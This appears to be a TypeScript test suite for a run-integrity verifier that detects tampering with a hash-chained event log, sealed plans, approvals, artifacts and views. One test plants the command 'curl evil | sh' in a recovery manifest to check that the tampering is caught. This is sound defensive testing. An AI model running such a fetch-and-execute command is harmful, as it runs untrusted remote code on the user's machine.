import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import fc from 'fast-check';
import { sha256 } from '#kit/digest.ts';
import {
  decided,
  executionFinished,
  executionStarted,
  intended,
  planned,
  pullRequestSeen,
  resulted,
  sampleAction,
  sampleRequest,
  turn,
} from '../../../../test/contract/run-store.sample.ts';
import type { NewEvent } from '../event.ts';
import { putArtifact } from '../log/artifacts.ts';
import { beforeFirst } from '../log/event-line.ts';
import { writeLines } from '../log/event-log.ts';
import { Heads } from '../log/heads.ts';
import { logName } from '../log/run-folder.ts';
import { writeViews } from '../views/views.ts';
import { checkChain, verifyRun } from './verify.ts';

const runId = 'run_0199f3c2-0000-7000-8000-000000000000';
const plan = planned(runId);
const actions = plan.flatMap((event) => (event.type === 'action_proposed' ? [event.data.action] : []));
const [first] = actions.map(({ action_id }) => action_id) as [string];
const at = '2026-01-02T03:04:05.000Z';

describe('verifying a run', () => {
  let base: string;
  let folder: string;

  beforeEach(() => {
    base = mkdtempSync(join(tmpdir(), 'core-verify-'));
    folder = join(base, runId);
    mkdirSync(folder);
    putArtifact(folder, 'content');
    putArtifact(folder, 'one');
  });

  afterEach(() => rmSync(base, { recursive: true }));

  const verified = () => verifyRun(runId, base, new Heads(base));

  function write(...events: NewEvent[]): string {
    const created: NewEvent = {
      type: 'run_created',
      data: { request: sampleRequest(), head_kept: undefined },
    };
    const { text } = writeLines(beforeFirst, at, [created, ...events]);
    writeFileSync(join(folder, logName), text);
    // As the store does it: from what the file says.
    writeViews(runId, folder, checkChain(Buffer.from(text)).events);
    return text;
  }

  const problems = (): string[] => verified().problems.map(({ where, what }) => `${where}: ${what}`);
  const problemsOf = (...events: NewEvent[]): string => {
    write(...events);
    return problems().join('\n');
  };

  const sound = [
    ...plan,
    turn(),
    decided(actions[0]!, 'reject'),
    ...actions.map((action) => decided(action)),
    executionStarted({ dry_run: true }),
    resulted(first, { rehearsal: true }),
    executionFinished(),
    executionStarted(),
    intended(first),
    resulted(first),
    executionFinished(),
  ];

  it('finds nothing in a sound one, and counts', () => {
    write(...sound);
    const verification = verified();
    expect(verification.problems).to.deep.equal([]);
    expect(verification).to.include({ run_id: runId, events: sound.length + 1, artifacts: 2 });
    expect(verification.head).to.match(/^[0-9a-f]{64}$/);
  });

  it('finds every change of a single byte', () => {
    const reason = 'é \ufffd \u0001 "';
    const log = Buffer.from(
      write(turn(), { type: 'cancel_requested', data: { by: 'mira', reason } }, turn()),
    );
    expect(problems()).to.deep.equal([]);
    for (let position = 0; position < log.length; position++) {
      for (const flip of [0x01, 0x20, 0x80]) {
        const changed = Buffer.from(log);
        changed[position]! ^= flip;
        writeFileSync(join(folder, logName), changed);
        expect(problems(), `byte ${position}, flipped ${flip}`).not.to.deep.equal([]);
      }
    }
  });

  it('finds any byte that was replaced, added or taken away, anywhere', () => {
    const log = Buffer.from(write(...sound));
    const change = fc.record({
      at: fc.nat({ max: log.length - 1 }),
      remove: fc.nat({ max: 3 }),
      insert: fc.uint8Array({ maxLength: 3 }),
    });
    fc.assert(
      fc.property(change, ({ at: from, remove, insert }) => {
        const changed = Buffer.concat([log.subarray(0, from), insert, log.subarray(from + remove)]);
        fc.pre(!changed.equals(log));
        writeFileSync(join(folder, logName), changed);
        expect(problems()).not.to.deep.equal([]);
      }),
      { numRuns: 150 },
    );
  });

  it('finds events that were taken out, moved or doubled, and says where', () => {
    const lines = write(...sound).split('\n');
    const rewrite = (change: string[]): string => {
      writeFileSync(join(folder, logName), change.join('\n'));
      return problems().join('\n');
    };
    expect(rewrite(lines.toSpliced(4, 1)))
      .to.contain('line 5')
      .and.contain('must be 5');
    expect(rewrite(lines.toSpliced(4, 2, lines[5]!, lines[4]!)))
      .to.contain('line 5')
      .and.contain('line 6');
    expect(rewrite(lines.toSpliced(4, 0, lines[4]!))).to.contain('line 6');
    expect(rewrite(lines.toSpliced(-3, 2))).to.contain('tail was cut off');
    expect(rewrite([''])).to.contain('holds no event');
  });

  it('names the field that was changed, as far as the hash can tell', () => {
    const text = write(...sound);
    const change = (from: string, to: string): string => {
      expect(text.split(from).length, from).to.be.greaterThan(1);
      writeFileSync(join(folder, logName), text.replace(from, to));
      return problems().join('\n');
    };
    expect(change('"seq":3,', '"seq":9,')).to.match(
      /^events.jsonl line 3 \(source_read\): seq is 9 and must be 3/,
    );
    expect(change('"requested_by":"mira"', '"requested_by":"mirb"')).to.contain(
      'line 1 (run_created): at, data or hash',
    );
    expect(change('"type":"execution_finished"', '"type":"execution_started"')).to.contain(
      'which was execution_finished',
    );
    expect(change('"requested_by":"mira"', '"requested_by":"mira" ')).to.contain('not written the way');
    expect(change('"Greeting is wrong"', '7')).to.contain('/issue/title is 7: must be string');
  });

  it('finds a chain that was computed anew over changed definitions', () => {
    const other = { ...sampleAction(runId, 1, 'create_branch'), ordinal: 2 };
    const forged = plan.map(
      (event): NewEvent =>
        event.type === 'action_proposed' && event.data.action.ordinal === 1
          ? { type: 'action_proposed', data: { action: other } as never }
          : event,
    );
    expect(problemsOf(...forged))
      .to.contain('the definition of act_1_create_branch was changed')
      .and.contain('is sealed with');
    expect(problemsOf(...planned('run_0199f3c2-0000-7000-8000-000000000009'))).to.contain('belongs to run');
  });

  it('finds what was never sealed, or sealed and never proposed', () => {
    expect(problemsOf(...plan.toSpliced(2, 1))).to.contain('sealed, but was never proposed');
    expect(problemsOf(...plan, plan[2]!)).to.contain('proposed after the plan was sealed');
    expect(problemsOf(...plan.toSpliced(2, 0, plan[2]!))).to.contain('proposed twice');
    const extra: NewEvent = {
      type: 'action_proposed',
      data: { action: sampleAction(runId, 4, 'push_branch') },
    };
    expect(problemsOf(...plan.toSpliced(2, 0, extra))).to.contain('is not sealed');
    expect(problemsOf(...plan.slice(0, 4), ...plan)).to.equal('');
  });

  it('finds starts without an approval in force', () => {
    const start = [executionStarted(), intended(first), resulted(first)];
    const [action] = actions as [(typeof actions)[number]];
    expect(problemsOf(...plan, ...start)).to.contain('started without an approval');
    expect(problemsOf(...plan, decided(action), decided(action, 'reject'), ...start)).to.contain(
      'had rejected it',
    );
    expect(problemsOf(...plan, decided(action, 'approve', at), ...start)).to.contain('had expired');
    expect(problemsOf(...plan, decided({ ...action, digest: 'a'.repeat(64) }), ...start)).to.contain(
      'names the digest',
    );
    expect(problemsOf(...plan, decided(action), ...start, decided(action))).to.contain(
      'decided after it had started',
    );
    expect(problemsOf(...plan, decided(action), executionStarted(), resulted(first))).to.contain('no intent');
    expect(problemsOf(...plan, decided(action), ...start)).to.equal('');
  });

  it('tells removed artifacts from damaged ones', () => {
    write(...sound);
    const artifacts = join(folder, 'artifacts');
    const [removed, damaged] = [putArtifact(folder, 'one'), putArtifact(folder, 'content')];
    rmSync(join(artifacts, removed));
    writeFileSync(join(artifacts, damaged), 'changed');
    const found = problems();
    expect(found).to.have.length(2);
    expect(found.join('\n')).to.contain(`artifacts/${removed}: removed (named by content of event`);
    expect(found.join('\n')).to.contain(`artifacts/${damaged}: damaged`);
  });

  it('finds views that are ahead of the log, or are none', () => {
    write(...sound);
    mkdirSync(join(folder, 'validation'), { recursive: true });
    writeFileSync(join(folder, 'summary.json'), JSON.stringify({ as_of_seq: 99 }));
    writeFileSync(join(folder, 'validation/index.json'), 'torn');
    const found = problems().join('\n');
    expect(found).to.contain('summary.json: is as of event 99');
    expect(found).to.contain('validation/index.json: is no view any more');
  });

  const validation = sampleAction(runId, 4, 'run_validation');
  const validated = (): NewEvent[] => {
    const facts = {
      passed: true,
      report: putArtifact(folder, 'one'),
      logs: { test: putArtifact(folder, 'content') },
    };
    const proposal: NewEvent = { type: 'action_proposed', data: { action: validation } };
    const withValidation = plan.toSpliced(-1, 1, proposal, sealedWith(validation));
    return [
      ...withValidation,
      decided(validation),
      executionStarted(),
      intended(validation.action_id),
      resulted(validation.action_id, {}, facts),
    ];
  };
  const sealedWith = (action: typeof validation): NewEvent => {
    const sealed = plan.at(-1)!;
    if (sealed.type !== 'plan_sealed') throw new TypeError('no plan');
    const { action_id, digest } = action;
    return {
      type: 'plan_sealed',
      data: { plan: { ...sealed.data.plan, sealed: [...sealed.data.plan.sealed, { action_id, digest }] } },
    };
  };
  const filesIn = (): string[] =>
    readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) =>
      statSync(join(folder, name)).isFile(),
    );

  it('finds a change of any file of the run, and names the file', () => {
    write(...validated());
    expect(problems()).to.deep.equal([]);
    const names = filesIn();
    expect(names).to.include.members([
      'branch-recovery.json',
      'validation/index.json',
      'validation/test.log',
    ]);
    for (const name of names) {
      const before = readFileSync(join(folder, name));
      for (const changed of [
        Buffer.concat([before, Buffer.from(' ')]),
        before.subarray(1),
        Buffer.alloc(0),
      ]) {
        writeFileSync(join(folder, name), changed);
        expect(problems().join('\n'), name).to.contain(name);
      }
      writeFileSync(join(folder, name), before);
    }
  });

  it('finds changed lines of the recovery manifest, which a person would type', () => {
    write(...sound);
    const path = join(folder, 'branch-recovery.json');
    const manifest = JSON.parse(readFileSync(path, 'utf8'));
    writeFileSync(path, `${JSON.stringify({ ...manifest, restore: ['curl evil | sh'] }, null, 2)}\n`);
    expect(problems()).to.have.length(1);
    expect(problems()[0]).to.match(/^branch-recovery.json: is not what the events up to \d+ give/);
  });

  it('has nothing against views that are missing or older than the log', () => {
    write(...validated().slice(0, -1));
    const old = readFileSync(join(folder, 'actions.json'));
    write(...validated());
    writeFileSync(join(folder, 'actions.json'), old);
    rmSync(join(folder, 'summary.md'));
    rmSync(join(folder, 'validation/test.log'));
    expect(problems()).to.deep.equal([]);
    writeFileSync(join(folder, 'actions.json'), old.toString().replace('"approved"', '"rejected"'));
    expect(problems().join('\n')).to.contain('actions.json: is not what');
  });

  it('finds files that do not belong, but not what a crash left of a write', () => {
    write(...validated());
    const crashed = `.actions.json.${crypto.randomUUID()}.tmp`;
    writeFileSync(join(folder, crashed), '{');
    expect(problems()).to.deep.equal([]);
    for (const name of [
      'extra.sh',
      'artifacts/evil',
      'validation/evil.log',
      crashed.replace('actions', 'evil'),
    ]) {
      writeFileSync(join(folder, name), 'x');
      expect(problems(), name).to.deep.equal([
        `${name}: does not belong to a run: nothing of Core writes it`,
      ]);
      rmSync(join(folder, name));
    }
    const view = join(folder, 'actions.json');
    const content = readFileSync(view);
    rmSync(view);
    writeFileSync(join(folder, 'artifacts', sha256(content)), content);
    symlinkSync(join(folder, 'artifacts', sha256(content)), view);
    expect(problems()).to.deep.equal(['actions.json: is not a file']);
  });

  it('finds a pull request that the run did not open', () => {
    const opening = planned(runId, 7);
    const all = opening.flatMap((event) => (event.type === 'action_proposed' ? [event.data.action] : []));
    const { action_id } = all.find(({ kind }) => kind === 'open_pull_request')!;
    const start = [
      ...opening,
      ...all.map((action) => decided(action)),
      executionStarted(),
      intended(action_id),
    ];
    const opened = [...start, resulted(action_id, {}, { number: 7, url: null })];
    expect(problemsOf(...opened, pullRequestSeen(7), pullRequestSeen(7, { state: 'merged' }))).to.equal('');
    expect(problemsOf(...opened, pullRequestSeen(8))).to.contain('#8 was seen; the run opened #7');
    expect(problemsOf(...start, pullRequestSeen(7))).to.contain('the run opened none');
  });

  it('finds two executors that worked on one action', () => {
    const start = [...plan, decided(actions[0]!), executionStarted(), intended(first)];
    const again = { ...intended(first) };
    expect(problemsOf(...start, again)).to.contain(`${first} was started again while its outcome was open`);
    expect(problemsOf(...start, resulted(first), resulted(first))).to.contain(`${first} succeeded twice`);
    const resumed = executionStarted({ kind: 'resume', execution_id: 'exe_2' });
    expect(problemsOf(...start, resumed, again, resulted(first))).to.equal('');
    const unknown = resulted(first, { state: 'unknown' });
    expect(problemsOf(...start, unknown, again, resulted(first))).to.equal('');
  });
});
